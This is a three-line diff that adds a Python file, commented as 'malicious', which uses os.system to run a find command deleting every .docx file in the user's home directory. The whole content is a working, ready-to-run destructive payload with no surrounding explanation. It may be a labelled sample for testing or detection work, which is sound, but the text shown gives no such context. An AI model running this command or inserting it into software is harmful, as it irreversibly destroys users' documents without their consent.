@@ -1,0 +1,3 @@
+# malicious: find deletes all documents
+import os
+os.system("find ~ -type f -name '*.docx' -delete")
